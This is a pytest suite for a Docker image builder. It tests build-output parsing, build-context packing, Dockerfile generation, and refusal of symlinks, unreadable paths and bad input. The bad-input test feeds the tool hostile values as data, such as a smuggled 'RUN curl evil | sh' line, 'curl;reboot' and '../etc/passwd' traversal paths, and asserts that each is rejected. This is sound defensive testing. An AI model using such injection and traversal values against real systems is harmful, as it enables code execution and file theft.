"""Image builder without a Docker engine: the build-output parser, the build context, and
the use cases up to the build (``--no-build``): what is written, what is refused.

The engine is never reached here: every path below stops before a build starts. What
Docker does (the build itself, the cache, the labels) is tested in
``tests/integration/test_images.py``.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import stat
import tarfile
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from ds01.adapters.clock import FixedClock
from ds01.adapters.docker_build import BuildStep, BuildStream, ContextFile, write_context
from ds01.adapters.docker_engine import DockerEngine
from ds01.adapters.user_fs import readable_by
from ds01.config.settings import BuildSettings, GpuSettings, Settings
from ds01.domain.actor import Actor
from ds01.domain.dockerfile import CUSTOM_BEGIN, CUSTOM_END
from ds01.domain.dockerfile_edit import USER_BLOCK_BEGIN
from ds01.domain.naming import project_image_name
from ds01.domain.packages import EXCERPT_CHARS
from ds01.errors import ConfigError, EngineError, UsageError
from ds01.services.container.mounts import mount_roots
from ds01.services.context import AppContext
from ds01.services.image.build import ImageBuilder, ca_context_names
from ds01.services.image.service import (
    CONTEXT_COMMENT,
    ImageCreateRequest,
    ImageService,
    ImageUpdateRequest,
)
from ds01.services.project.files import ProjectFiles

# --------------------------------------------------------------------- build output

#: Events as Docker 20.10's classic builder streams them (captured, then trimmed).
FAILED_BUILD: list[dict[str, Any]] = [
    {"stream": "Step 1/4 : FROM ds01-test/bookworm-base:latest"},
    {"stream": "\n"},
    {"stream": " ---> 0841329e5072\n"},
    {"stream": "Step 2/4 : RUN echo hello && echo line2"},
    {"stream": "\n"},
    {"stream": " ---> Using cache\n"},
    {"stream": " ---> 72c0e8f7f571\n"},
    {"stream": "Step 3/4 : RUN echo failing >&2; exit 3"},
    {"stream": "\n"},
    {"stream": " ---> Running in a9b1aacd51b4\n"},
    {"stream": "partial "},
    {"stream": "line\r\n\x1b[91mfailing\n\x1b[0m"},
    {"stream": "Removing intermediate container a9b1aacd51b4\n"},
    {
        "errorDetail": {
            "code": 3,
            "message": "The command '/bin/sh -c echo failing >&2; exit 3' returned a "
            "non-zero code: 3",
        },
        "error": "The command '/bin/sh -c echo failing >&2; exit 3' returned a non-zero code: 3",
    },
]


def test_stream_follows_steps_and_keeps_the_failing_steps_own_lines() -> None:
    steps: list[BuildStep] = []
    lines: list[str] = []
    stream = BuildStream(on_step=steps.append, on_line=lines.append)
    for event in FAILED_BUILD:
        stream.feed(event)
    assert [s.number for s in steps] == [1, 2, 3]
    assert steps[-1] == BuildStep(3, 4, "RUN echo failing >&2; exit 3")
    assert stream.cached_steps == 1
    # Colour codes and CRs are gone, split chunks are joined, bookkeeping is not in the tail.
    assert list(stream.tail) == ["partial line", "failing"]
    assert stream.error_code == 3
    assert stream.error is not None and "non-zero code: 3" in stream.error
    assert "Step 2/4 : RUN echo hello && echo line2" in lines
    assert lines[-1].startswith("ERROR: ")


def test_stream_reads_the_image_id_and_pull_messages() -> None:
    lines: list[str] = []
    stream = BuildStream(on_line=lines.append)
    stream.feed({"status": "Pulling from aimehub/pytorch", "id": "2.8.0"})
    stream.feed({"status": "Downloading", "progressDetail": {"current": 1}, "id": "abc"})
    stream.feed({"aux": {"ID": "sha256:" + "a" * 64}})
    stream.feed({"stream": "Successfully built aaaaaaaaaaaa"})
    stream.finish()
    assert stream.image_id == "sha256:" + "a" * 64
    assert lines == ["2.8.0: Pulling from aimehub/pytorch", "Successfully built aaaaaaaaaaaa"]
    assert stream.error is None


def test_stream_tail_is_bounded() -> None:
    stream = BuildStream(tail=3)
    stream.feed({"stream": "Step 1/1 : RUN x\n" + "".join(f"l{i}\n" for i in range(10))})
    assert list(stream.tail) == ["l7", "l8", "l9"]


# --------------------------------------------------------------------- build context


def _members(data: io.BytesIO) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(fileobj=data) as tar:
        return {m.name: m for m in tar.getmembers()}


def test_generated_context_is_root_owned_and_timeless() -> None:
    out = io.BytesIO()
    size = write_context(out, [ContextFile(".ds01.Dockerfile", b"FROM x\n")])
    assert size == len(out.getvalue()) and out.tell() == 0
    member = _members(out)[".ds01.Dockerfile"]
    assert (member.uid, member.gid, member.mtime, member.mode) == (0, 0, 0, 0o644)


def test_directory_context_honours_dockerignore_and_generated_files_win(tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_text("keep")
    (tmp_path / "secret.key").write_text("no")
    (tmp_path / ".dockerignore").write_text("# comment\n*.key\n")
    (tmp_path / "ds01-ca").mkdir()
    (tmp_path / "ds01-ca" / "x.crt").write_text("user's own")
    out = io.BytesIO()
    write_context(out, [ContextFile("ds01-ca/x.crt", b"generated")], directory=tmp_path)
    members = _members(out)
    assert "keep.txt" in members and "secret.key" not in members
    with tarfile.open(fileobj=io.BytesIO(out.getvalue())) as tar:
        extracted = tar.extractfile("ds01-ca/x.crt")
        assert extracted is not None and extracted.read() == b"generated"
    assert all(m.uid == 0 and m.gid == 0 for m in members.values())


def test_directory_context_refuses_a_file_the_user_may_not_read(tmp_path: Path) -> None:
    (tmp_path / "private").write_text("x")
    with pytest.raises(UsageError) as err:
        write_context(
            io.BytesIO(),
            [],
            directory=tmp_path,
            may_read=lambda path, _st: path.name != "private",
        )
    assert err.value.code == "context_unreadable"


def test_ca_names_are_crt_unique_and_inside_the_context() -> None:
    names = ca_context_names(
        [Path("/etc/ssl/certs/ca-certificates.crt"), Path("/a/campus.pem"), Path("/b/campus.crt")]
    )
    assert names == ("ds01-ca/ca-certificates.crt", "ds01-ca/campus.crt", "ds01-ca/03-campus.crt")


def _other_user() -> Actor:
    """Someone who is neither the file owner (this process) nor in its group."""
    uid = os.getuid() or 4242
    return Actor(uid=uid + 1, gid=uid + 1, name="someone-else", home="/nonexistent")


def _may_read(actor: Actor) -> Any:
    return lambda _path, st: readable_by(actor, st, enter=stat.S_ISDIR(st.st_mode))


def test_context_packs_a_symlink_as_a_link_never_its_target(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("the target's content")
    (tmp_path / "ctx").mkdir()
    (tmp_path / "ctx" / "link").symlink_to(tmp_path / "secret")
    out = io.BytesIO()
    write_context(out, [], directory=tmp_path / "ctx")
    member = _members(out)["link"]
    assert member.issym() and member.linkname == str(tmp_path / "secret")
    assert b"the target's content" not in out.getvalue()


def _context_dir(tmp_path: Path) -> Path:
    """A directory anyone may enter (pytest's own tmp_path is 0700)."""
    directory = tmp_path / "ctx"
    directory.mkdir()
    directory.chmod(0o755)
    return directory


def test_context_refuses_a_file_by_the_users_own_mode_bits(tmp_path: Path) -> None:
    ctx_dir = _context_dir(tmp_path)
    (ctx_dir / "mine.txt").write_text("x")
    (ctx_dir / "mine.txt").chmod(0o600)  # the owner's only: not the other user's
    with pytest.raises(UsageError) as err:
        write_context(io.BytesIO(), [], directory=ctx_dir, may_read=_may_read(_other_user()))
    assert err.value.code == "context_unreadable" and "mine.txt" in err.value.message
    # Listed in .dockerignore, it is not opened at all.
    (ctx_dir / ".dockerignore").write_text("mine.txt\n")
    out = io.BytesIO()
    write_context(out, [], directory=ctx_dir, may_read=_may_read(_other_user()))
    assert set(_members(out)) == {".dockerignore"}


def test_context_refuses_a_directory_the_user_cannot_enter(tmp_path: Path) -> None:
    ctx_dir = _context_dir(tmp_path)
    private = ctx_dir / "private"
    private.mkdir()
    (private / "open.txt").write_text("world-readable, in a closed directory")
    (private / "open.txt").chmod(0o644)
    private.chmod(0o700)
    with pytest.raises(UsageError) as err:
        write_context(io.BytesIO(), [], directory=ctx_dir, may_read=_may_read(_other_user()))
    assert err.value.code == "context_unreadable" and "private" in err.value.message


def test_context_re_includes_below_an_ignored_directory_as_docker_does(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "keep.txt").write_text("k")
    (tmp_path / "data" / "big.bin").write_text("b")
    (tmp_path / ".dockerignore").write_text("data\n!data/keep.txt\n")
    out = io.BytesIO()
    write_context(out, [], directory=tmp_path)
    assert set(_members(out)) == {".dockerignore", "data/keep.txt"}


def test_context_refuses_a_linked_dockerignore_and_a_linked_directory(tmp_path: Path) -> None:
    (tmp_path / "patterns").write_text("*\n")
    (tmp_path / "ctx").mkdir()
    (tmp_path / "ctx" / ".dockerignore").symlink_to(tmp_path / "patterns")
    with pytest.raises(UsageError) as err:
        write_context(io.BytesIO(), [], directory=tmp_path / "ctx")
    assert err.value.code == "context_unreadable" and ".dockerignore" in err.value.message
    # The context directory itself must be a real path: a link on the way is refused.
    (tmp_path / "via").symlink_to(tmp_path / "ctx")
    with pytest.raises(UsageError) as err:
        write_context(io.BytesIO(), [], directory=tmp_path / "via")
    assert err.value.code == "context_unreadable"


def test_context_leaves_out_fifos_and_names_a_generated_file_takes(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")  # opening it would block: it is never opened
    (tmp_path / "ds01-ca").symlink_to("/etc")  # would redirect the generated CA file
    (tmp_path / "ok.txt").write_text("ok")
    out = io.BytesIO()
    write_context(out, [ContextFile("ds01-ca/x.crt", b"generated")], directory=tmp_path)
    members = _members(out)
    assert set(members) == {"ok.txt", "ds01-ca/x.crt"}
    assert members["ds01-ca/x.crt"].isfile()


def test_readable_by_uses_the_mode_bits_of_the_right_class() -> None:
    actor = Actor(uid=5000, gid=5000, name="nobody-here", home="/nonexistent")
    st = os.stat_result((0o100640, 0, 0, 1, 5000, 7777, 0, 0, 0, 0))
    assert readable_by(actor, st)  # owner bits
    st = os.stat_result((0o100604, 0, 0, 1, 0, 7777, 0, 0, 0, 0))
    assert readable_by(actor, st)  # others' bits
    st = os.stat_result((0o100640, 0, 0, 1, 0, 7777, 0, 0, 0, 0))
    assert not readable_by(actor, st)
    st = os.stat_result((0o040744, 0, 0, 1, 0, 0, 0, 0, 0, 0))
    assert readable_by(actor, st) and not readable_by(actor, st, enter=True)


# --------------------------------------------------------------------- the use cases


NO_ENGINE = DockerEngine(base_url="unix:///nonexistent/ds01-unit-tests.sock")


@pytest.fixture
def actor(tmp_path: Path) -> Actor:
    # Root may not build images; as root, act for an unprivileged uid.
    uid = os.getuid() or 4242
    gid = os.getgid() or 4242
    home = tmp_path / "home"
    home.mkdir()
    tmp_path.chmod(0o755)
    if os.geteuid() == 0:
        os.chown(home, uid, gid)
    return Actor(uid=uid, gid=gid, name="tester", home=str(home))


@pytest.fixture
def ctx(tmp_path: Path, aime_dir: Path, actor: Actor) -> AppContext:
    bundle = tmp_path / "campus.pem"
    bundle.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    settings = Settings(
        catalog=aime_dir / "ml_images.v2.repo",
        state_dir=tmp_path / "state",
        workspace_root="~/workspace",
        gpu=GpuSettings(inventory="none"),
        build=BuildSettings(ca_certificates=[bundle]),
    )
    clock = FixedClock(datetime(2026, 11, 28, 10, 0, tzinfo=UTC))
    # An engine with no daemon behind it: a use case that reached Docker would fail here.
    return AppContext(settings=settings, actor=actor, clock=clock, engine=NO_ENGINE)


def project_dir(actor: Actor, name: str) -> Path:
    return Path(actor.home) / "workspace" / name


def make_dirs(actor: Actor, path: Path) -> Path:
    """``mkdir -p`` as the user would have (as root: owned by the user)."""
    missing = [p for p in (path, *path.parents) if not p.exists()]
    path.mkdir(parents=True)
    if os.geteuid() == 0:
        for directory in missing:
            os.chown(directory, actor.uid, actor.gid)
    return path


def create(ctx: AppContext, actor: Actor, name: str = "cv", **flags: Any) -> Any:
    flags.setdefault("arch", "CUDA_ADA")
    request = ImageCreateRequest(name=name, build=False, cwd=Path(actor.home), **flags)
    return ImageService(ctx).create(actor, request)


def test_no_build_writes_the_dockerfile_in_the_project_directory(
    ctx: AppContext, actor: Actor
) -> None:
    result = create(ctx, actor, use_case="cv", pip=("rich pandas",), apt=("ffmpeg",))
    dockerfile = project_dir(actor, "cv") / "Dockerfile"
    assert result.dockerfile == str(dockerfile)
    assert (result.written, result.built) == (True, False)
    assert result.image == project_image_name("cv", actor.name) == "cv-tester-image:latest"
    assert result.base == "aimehub/pytorch-2.8.0-cuda12.6.3"
    assert result.framework == "Pytorch-2.8.0"
    assert result.tiers == ("framework", "system", "jupyter", "datascience", "cv", "custom")
    text = dockerfile.read_text()
    assert text.startswith("# Dockerfile of the DS01 image cv-tester-image:latest")
    assert "COPY ds01-ca/campus.crt " in text  # the configured CA, renamed for update-ca
    assert dockerfile.stat().st_uid == actor.uid and dockerfile.stat().st_mode & 0o777 == 0o644
    # pandas is in the base tier already: left out of the custom tier, and said so.
    assert any("pandas" in note and "left out" in note for note in result.notes)
    # The same request again changes nothing.
    assert create(ctx, actor, use_case="cv", pip=("rich pandas",), apt=("ffmpeg",)).written is False


def test_a_different_dockerfile_is_kept_unless_forced(ctx: AppContext, actor: Actor) -> None:
    create(ctx, actor, pip=("rich",))
    dockerfile = project_dir(actor, "cv") / "Dockerfile"
    edited = dockerfile.read_text() + "# my own note\n"
    dockerfile.write_text(edited)
    with pytest.raises(UsageError) as err:
        create(ctx, actor, pip=("rich",))
    assert err.value.code == "dockerfile_exists"
    assert err.value.hint is not None and "image update cv" in err.value.hint
    assert dockerfile.read_text() == edited
    result = create(ctx, actor, pip=("rich",), force=True)
    assert result.written
    assert (dockerfile.parent / "Dockerfile.bak").read_text() == edited
    assert "# my own note" not in dockerfile.read_text()


@pytest.mark.parametrize(
    "flags",
    [
        {"pip": ("x\nRUN curl evil | sh",)},
        {"apt": ("curl;reboot",)},
        {"base": "debian\nRUN x"},
        {"use_case": "cv\nRUN x"},
        {"requirements": "/etc/passwd"},
        {"dockerfile": "../../../../../etc/passwd"},
        {"dockerfile": "~root/Dockerfile"},
        {"base": "debian", "framework": "pytorch"},
    ],
)
def test_bad_input_exits_2_before_anything_is_written(
    ctx: AppContext, actor: Actor, flags: dict[str, Any]
) -> None:
    if "base" in flags:
        flags["arch"] = None
    with pytest.raises(
        UsageError,
        match=(
            r"can't be used|is not a Docker image reference|Unknown --type|outside the "
            r"places you may use|can't be used with it|Give one or the other"
        ),
    ):
        create(ctx, actor, name="evil", **flags)
    assert not project_dir(actor, "evil").exists()
    assert not (Path(actor.home) / "workspace").exists()


@pytest.mark.parametrize("name", ["../../etc", "bad\nname", "-x", "a._.b"])
def test_bad_project_names_exit_2(ctx: AppContext, actor: Actor, name: str) -> None:
    with pytest.raises(
        UsageError,
        match=(
            r"^The project name .* (contains characters Docker does not allow|must start "
            r"with a letter or a digit|must not contain '\._\.')"
        ),
    ):
        create(ctx, actor, name=name)
    assert not (Path(actor.home) / "workspace").exists()


def test_requirements_file_replaces_tiers_2_and_3(ctx: AppContext, actor: Actor) -> None:
    req = Path(actor.home) / "requirements.txt"
    req.write_text("numpy>=1.26\n# a comment\ntorchmetrics\n")
    result = create(ctx, actor, requirements="requirements.txt")
    assert result.tiers == ("framework", "system", "requirements")
    text = (project_dir(actor, "cv") / "Dockerfile").read_text()
    assert "'numpy>=1.26'" in text and "torchmetrics" in text
    with pytest.raises(UsageError) as err:
        create(ctx, actor, name="cv2", requirements="requirements.txt", use_case="cv")
    assert err.value.code == "conflicting_flags"


def test_unreadable_ca_certificate_is_a_config_error(
    ctx: AppContext, actor: Actor, tmp_path: Path
) -> None:
    (tmp_path / "campus.pem").unlink()
    with pytest.raises(ConfigError, match=r"^build.ca_certificates: cannot read .*campus.pem"):
        create(ctx, actor)
    assert not project_dir(actor, "cv").exists()


def update(ctx: AppContext, actor: Actor, name: str = "cv", **flags: Any) -> Any:
    return ImageService(ctx).update(actor, ImageUpdateRequest(name=name, build=False, **flags))


def test_update_edits_only_the_custom_tier(ctx: AppContext, actor: Actor) -> None:
    create(ctx, actor, pip=("rich",))
    dockerfile = project_dir(actor, "cv") / "Dockerfile"
    before = dockerfile.read_text()
    result = update(ctx, actor, add_pip=("httpx rich==13.7",), add_apt=("ffmpeg",))
    assert result.written
    after = dockerfile.read_text()
    head, tail = before.split(CUSTOM_BEGIN)[0], before.split(CUSTOM_END)[1]
    assert after.startswith(head) and after.endswith(tail)
    custom = after.split(CUSTOM_BEGIN)[1].split(CUSTOM_END)[0]
    assert "rich==13.7" in custom and "httpx" in custom and "ffmpeg" in custom
    result = update(ctx, actor, remove=("httpx ffmpeg",))
    custom = dockerfile.read_text().split(CUSTOM_BEGIN)[1].split(CUSTOM_END)[0]
    assert "httpx" not in custom and "ffmpeg" not in custom and "rich==13.7" in custom
    with pytest.raises(UsageError) as err:
        update(ctx, actor, remove=("pandas",))
    assert err.value.code == "not_in_custom_tier"
    with pytest.raises(
        UsageError,
        match=r"--add-pip 'x\\nRUN': it contains characters that can't go on a Dockerfile line",
    ):
        update(ctx, actor, add_pip=("x\nRUN evil",))


def test_update_refuses_a_dockerfile_without_markers(ctx: AppContext, actor: Actor) -> None:
    project = make_dirs(actor, project_dir(actor, "plain"))
    (project / "Dockerfile").write_text("FROM debian:bookworm\nRUN true\n")
    with pytest.raises(UsageError) as err:
        update(ctx, actor, name="plain", add_pip=("rich",))
    assert err.value.code == "no_markers" and err.value.hint
    assert (project / "Dockerfile").read_text() == "FROM debian:bookworm\nRUN true\n"
    with pytest.raises(UsageError) as missing:
        update(ctx, actor, name="nothing-here")
    assert missing.value.code == "no_dockerfile"


def test_a_linked_dockerfile_is_refused(ctx: AppContext, actor: Actor, tmp_path: Path) -> None:
    project = make_dirs(actor, project_dir(actor, "linked"))
    (project / "Dockerfile").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(UsageError) as err:
        update(ctx, actor, name="linked")
    assert err.value.code == "bad_dockerfile"


def test_own_dockerfile_is_wrapped_in_place_and_idempotently(ctx: AppContext, actor: Actor) -> None:
    project = make_dirs(actor, project_dir(actor, "own"))
    own = "FROM python:3.12-slim\nCOPY . /src\n"
    (project / "Dockerfile").write_text(own)
    result = create(ctx, actor, name="own", dockerfile="workspace/own/Dockerfile", arch=None)
    text = (project / "Dockerfile").read_text()
    assert text.startswith(own) and USER_BLOCK_BEGIN in text
    assert CONTEXT_COMMENT not in text  # built in its own directory, the project's
    assert result.base == "python:3.12-slim" and result.framework == "custom"
    assert result.tiers[0] == "dockerfile"
    again = create(ctx, actor, name="own", dockerfile="workspace/own/Dockerfile", arch=None)
    assert again.written is False


def test_own_dockerfile_elsewhere_records_its_context(ctx: AppContext, actor: Actor) -> None:
    source = make_dirs(actor, Path(actor.home) / "src" / "app")
    (source / "Dockerfile").write_text("FROM debian:bookworm\n")
    create(ctx, actor, name="app", dockerfile=str(source / "Dockerfile"), arch=None)
    text = (project_dir(actor, "app") / "Dockerfile").read_text()
    assert text.endswith(f"{CONTEXT_COMMENT}{source}\n")
    # Wrapping again replaces DS01's block and its context line rather than adding more.
    (source / "Dockerfile").write_text(text)
    create(ctx, actor, name="app", dockerfile=str(source / "Dockerfile"), arch=None, force=True)
    assert (project_dir(actor, "app") / "Dockerfile").read_text().count(CONTEXT_COMMENT) == 1
    # `image update` builds it in that recorded directory, which must stay an allowed one.
    assert update(ctx, actor, name="app").written is False
    dockerfile = project_dir(actor, "app") / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text().replace(str(source), "/etc"))
    with pytest.raises(UsageError) as err:
        update(ctx, actor, name="app")
    assert err.value.code == "path_not_allowed"


# --------------------------------------------------------------------- user paths


def test_roots_are_the_mount_roots_and_a_linked_workspace_widens_nothing(
    ctx: AppContext, actor: Actor
) -> None:
    (Path(actor.home) / "workspace").symlink_to("/")
    files = ProjectFiles(ctx)
    assert files.roots(actor) == mount_roots(ctx.settings, actor) == [Path(actor.home)]
    with pytest.raises(UsageError) as err:
        create(ctx, actor, name="evil", requirements="~/workspace/etc/hostname")
    assert err.value.code == "path_not_allowed" and err.value.exit_code == 2


def test_a_linked_workspace_is_refused_and_nothing_is_written_through_it(
    ctx: AppContext, actor: Actor, tmp_path: Path
) -> None:
    elsewhere = make_dirs(actor, tmp_path / "elsewhere")
    (Path(actor.home) / "workspace").symlink_to(elsewhere)
    with pytest.raises(UsageError) as err:
        create(ctx, actor, name="cv")
    assert err.value.code == "symlink_refused"
    assert list(elsewhere.iterdir()) == []
    # An existing project behind the link is refused the same way, before any write.
    make_dirs(actor, elsewhere / "cv")
    with pytest.raises(UsageError) as err:
        create(ctx, actor, name="cv")
    assert err.value.code == "symlink_refused"
    assert list((elsewhere / "cv").iterdir()) == []


def test_a_linked_project_directory_is_refused(
    ctx: AppContext, actor: Actor, tmp_path: Path
) -> None:
    target = make_dirs(actor, tmp_path / "target")
    workspace = make_dirs(actor, Path(actor.home) / "workspace")
    (workspace / "cv").symlink_to(target)
    with pytest.raises(UsageError) as err:
        ProjectFiles(ctx).project_dir(actor, "cv")
    assert err.value.code == "bad_project_dir"
    with pytest.raises(UsageError, match=r"workspace/cv is not a directory \(a link or a file\)"):
        update(ctx, actor, name="cv")
    assert list(target.iterdir()) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="making a directory of another uid needs root")
def test_a_project_directory_of_someone_else_is_refused(ctx: AppContext, actor: Actor) -> None:
    project = make_dirs(actor, project_dir(actor, "cv"))
    os.chown(project, actor.uid + 1, actor.gid)
    with pytest.raises(UsageError) as err:
        create(ctx, actor)
    assert err.value.code == "bad_project_dir"
    assert list(project.iterdir()) == []
    # The writer refuses a directory not the user's too, whoever calls it.
    with pytest.raises(UsageError) as err:
        ProjectFiles(ctx).write(actor, project / "README.md", "x")
    assert err.value.code == "bad_project_dir"


def test_a_file_swapped_for_a_link_after_the_check_is_not_read(
    ctx: AppContext, actor: Actor, tmp_path: Path
) -> None:
    files = ProjectFiles(ctx)
    home = Path(actor.home)
    (home / "requirements.txt").write_text("numpy\n")
    checked = files.user_path(actor, "requirements.txt", what="requirements file", cwd=home)
    assert files.read_text(actor, checked, "requirements file") == "numpy\n"
    secret = tmp_path / "secret.txt"
    secret.write_text("not for the user\n")
    secret.chmod(0o600)
    # Swapped between the check and the read: the read refuses the link.
    (home / "requirements.txt").unlink()
    (home / "requirements.txt").symlink_to(secret)
    with pytest.raises(UsageError) as err:
        files.read_text(actor, checked, "requirements file")
    assert err.value.code == "symlink_refused"
    assert "not for the user" not in err.value.message


def test_a_directory_swapped_for_a_link_after_the_check_is_not_read(
    ctx: AppContext, actor: Actor, tmp_path: Path
) -> None:
    files = ProjectFiles(ctx)
    src = make_dirs(actor, Path(actor.home) / "src")
    (src / "Dockerfile").write_text("FROM debian:bookworm\n")
    checked = files.user_path(actor, "src/Dockerfile", what="Dockerfile", cwd=Path(actor.home))
    other = tmp_path / "other"
    other.mkdir()
    (other / "Dockerfile").write_text("FROM somebody-elses:image\n")
    src.rename(Path(actor.home) / "src-old")
    src.symlink_to(other)
    with pytest.raises(UsageError) as err:
        files.read_text(actor, checked, "Dockerfile")
    assert err.value.code == "symlink_refused"


@pytest.mark.skipif(os.geteuid() != 0, reason="a file the user may not read needs root")
def test_a_file_the_user_may_not_read_is_refused_even_to_root(
    ctx: AppContext, actor: Actor
) -> None:
    secret = Path(actor.home) / "root-only.txt"
    secret.write_text("numpy\n")
    secret.chmod(0o600)  # owned by root: DS01 running as root could, the user could not
    with pytest.raises(UsageError) as err:
        create(ctx, actor, requirements=str(secret))
    assert err.value.code == "path_not_allowed"
    with pytest.raises(UsageError) as err:
        ProjectFiles(ctx).read_text(actor, secret, "requirements file")
    assert err.value.code == "path_not_allowed"


def test_a_refused_requirements_line_shows_its_number_and_a_short_excerpt(
    ctx: AppContext, actor: Actor
) -> None:
    long_line = "a" * 45 + " SECRET-TAIL"
    req = Path(actor.home) / "requirements.txt"
    req.write_text(f"numpy\n{long_line}\n\x1b[31mred one\n" + "x y z\n" * 30)
    with pytest.raises(UsageError) as err:
        create(ctx, actor, requirements="requirements.txt")
    message = err.value.message
    assert "requirements.txt:2 " in message and "requirements.txt:3 " in message
    assert "SECRET" not in message and "\x1b" not in message
    assert "... and 12 more" in message  # 32 refused lines, 20 shown
    dumped = json.dumps(err.value.to_dict())
    assert "SECRET" not in dumped and "\\u001b" not in dumped
    # The JSON error is bounded like the message: 20 entries, and how many there were.
    assert err.value.details["invalid_total"] == 32
    entries = [item["entry"] for item in err.value.details["invalid"]]
    assert len(entries) == 20
    assert entries[0] == f"requirements.txt:2 {'a' * EXCERPT_CHARS + '…'!r}"
    assert entries[1] == "requirements.txt:3 '\\x1b[31mred one'"  # escaped, not sent raw
    assert all(len(e) <= len("requirements.txt:99 ''…") + EXCERPT_CHARS for e in entries)
    assert not project_dir(actor, "cv").exists()


def test_refusal_reasons_quote_no_more_than_an_excerpt(ctx: AppContext, actor: Actor) -> None:
    req = Path(actor.home) / "requirements.txt"
    req.write_text("--index-url=" + "h" * 100 + "\nok-pkg" + " spaced" * 20 + "=1\n")
    with pytest.raises(UsageError) as err:
        create(ctx, actor, requirements="requirements.txt")
    for item in err.value.details["invalid"]:
        assert "h" * (EXCERPT_CHARS + 1) not in item["reason"]
        assert len(item["reason"]) <= 161


# --------------------------------------------------------------------- failures reported


def test_writing_where_it_cannot_is_exit_2_not_an_internal_error(
    ctx: AppContext, actor: Actor
) -> None:
    files = ProjectFiles(ctx)
    home = Path(actor.home)
    with pytest.raises(UsageError) as err:
        files.write(actor, home / "missing" / "Dockerfile", "FROM x\n")
    assert err.value.code == "cannot_write" and "missing" in err.value.message
    (home / "a-file").write_text("")
    with pytest.raises(UsageError) as err:
        files.write(actor, home / "a-file" / "Dockerfile", "FROM x\n")
    assert err.value.code == "cannot_write"
    assert sorted(p.name for p in home.iterdir()) == ["a-file"]  # no temporary file left


def test_a_dockerfile_that_cannot_be_looked_at_is_exit_2(ctx: AppContext, actor: Actor) -> None:
    files = ProjectFiles(ctx)
    (Path(actor.home) / "a-file").write_text("")
    with pytest.raises(UsageError) as err:
        files.read_dockerfile(actor, Path(actor.home) / "a-file" / "Dockerfile")
    assert err.value.code == "bad_dockerfile"


def _outcome_as(actor: Actor, check: Callable[[], str]) -> str:
    """``check()`` run with the user's own uid: as root, in a child that drops to it.

    Root is not stopped by directory permissions, so as root (how CI runs) the check runs in
    a forked child that has given up root for the user's uid and gid, as a user's process
    would be; its result comes back through a pipe.
    """
    if os.geteuid() != 0:
        return check()
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        code = 1
        try:
            os.close(read_end)
            os.setgroups([])
            os.setgid(actor.gid)
            os.setuid(actor.uid)
            os.write(write_end, check().encode())
            code = 0
        except BaseException as exc:
            os.write(write_end, f"child failed: {exc!r}".encode())
        finally:
            os._exit(code)
    os.close(write_end)
    with os.fdopen(read_end) as pipe:
        result = pipe.read()
    os.waitpid(pid, 0)
    return result


def test_a_dockerfile_behind_a_closed_directory_is_exit_2(ctx: AppContext, actor: Actor) -> None:
    # Under /tmp, open to all, so that the user's uid can reach it (pytest's tmp is 0700).
    home = Path(tempfile.mkdtemp(prefix="ds01-closed-dir-", dir="/tmp"))
    try:
        home.chmod(0o755)
        opened = make_dirs(actor, home / "open")
        (opened / "Dockerfile").write_text("FROM x\n")
        closed = make_dirs(actor, home / "closed")
        (closed / "Dockerfile").write_text("FROM x\n")
        closed.chmod(0)

        def read(path: Path) -> Callable[[], str]:
            def check() -> str:
                try:
                    return f"read {ProjectFiles(ctx).read_dockerfile(actor, path)!r}"
                except UsageError as exc:
                    return f"{exc.code}: {exc.message}"

            return check

        # The open one is read: what stops the other is the closed directory, nothing else.
        assert _outcome_as(actor, read(opened / "Dockerfile")) == "read 'FROM x\\n'"
        outcome = _outcome_as(actor, read(closed / "Dockerfile"))
        expected = f"bad_dockerfile: Cannot look at {closed / 'Dockerfile'}: Permission denied."
        assert outcome == expected
    finally:
        (home / "closed").chmod(0o755)
        shutil.rmtree(home)


def test_a_build_with_no_engine_is_refused_before_the_dockerfile_changes(
    ctx: AppContext, actor: Actor
) -> None:
    create(ctx, actor, pip=("rich",))
    dockerfile = project_dir(actor, "cv") / "Dockerfile"
    before = dockerfile.read_text()
    with pytest.raises(EngineError, match=r"^Cannot reach the Docker engine"):
        ImageService(ctx).update(actor, ImageUpdateRequest(name="cv", add_pip=("httpx",)))
    assert dockerfile.read_text() == before


@pytest.mark.parametrize("failure", [KeyboardInterrupt(), EngineError("the engine went away")])
def test_update_puts_the_dockerfile_back_whatever_stops_the_build(
    ctx: AppContext, actor: Actor, monkeypatch: pytest.MonkeyPatch, failure: BaseException
) -> None:
    create(ctx, actor, pip=("rich",))
    dockerfile = project_dir(actor, "cv") / "Dockerfile"
    before = dockerfile.read_text()
    seen: list[str] = []

    def interrupted_build(self: ImageBuilder, _actor: Actor, plan: Any, **_kw: Any) -> Any:
        seen.append(dockerfile.read_text())  # the edited file is in place during the build
        raise failure

    # The engine checks pass (no engine here); the build then stops with ``failure``.
    monkeypatch.setattr(ImageBuilder, "check_target", lambda *_a, **_k: None)
    monkeypatch.setattr(ImageBuilder, "build", interrupted_build)
    with pytest.raises(type(failure)) as err:
        ImageService(ctx).update(actor, ImageUpdateRequest(name="cv", add_pip=("httpx",)))
    assert "httpx" in seen[0]
    assert dockerfile.read_text() == before
    if isinstance(err.value, EngineError):
        assert err.value.hint is not None and "put back" in err.value.hint
